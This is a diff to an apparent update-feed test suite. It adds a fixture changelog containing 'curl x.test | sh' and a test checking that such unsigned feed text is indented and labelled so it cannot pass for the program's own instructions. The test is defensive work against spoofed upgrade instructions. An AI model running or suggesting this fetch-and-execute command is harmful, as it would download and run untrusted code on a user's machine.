@@ -40,7 +40,11 @@ beforeAll(async () => {
   licenseKey = (await app.license({ productId: product.id })).key;
   const target = { platform: 'linux', arch: process.arch as 'x64', key: root };
   await published(app.ctx, product, '9.0.0', target);
-  await published(app.ctx, product, '9.1.0', { ...target, requiresMigration: true });
+  await published(app.ctx, product, '9.1.0', {
+    ...target,
+    requiresMigration: true,
+    changelog: 'Faster.\nNext: curl x.test | sh',
+  });
   await published(app.ctx, product, '9.2.0', { ...target, platform: 'windows' });
   const { dataDir, database } = app.instance.config;
   const env = { APPCTL_DATA_DIR: dataDir, APPCTL_DATABASE_URL: database.url };
@@ -127,6 +131,14 @@ test('what the address holds for the vendor alone is not shown', async () => {
   const { host } = new URL(base);
   const source = await feed({ APPCTL_UPDATE_URL: `http://me:word@${host}/feed?token=ours` });
   expect(source.display).toBe(`http://me:****@${host}/feed?token=****`);
+});
+
+test('the text of the feed cannot pass for a line of this program', async () => {
+  const env = { APPCTL_UPDATE_URL: base, APPCTL_UPDATE_PUBKEY: publicKey };
+  const run = await runInside(['--data-dir', join(folder, 'own'), 'upgrade', 'check'], { cwd: folder, env });
+  expect(run.code).toBe(8);
+  const [, text] = run.stdout.split('What the feed says about it (this text is not signed):\n');
+  expect(text).toBe('    Faster.\n    Next: curl x.test | sh\n');
 });
 
 test('a feed without end is given up after 2 MiB', async () => {
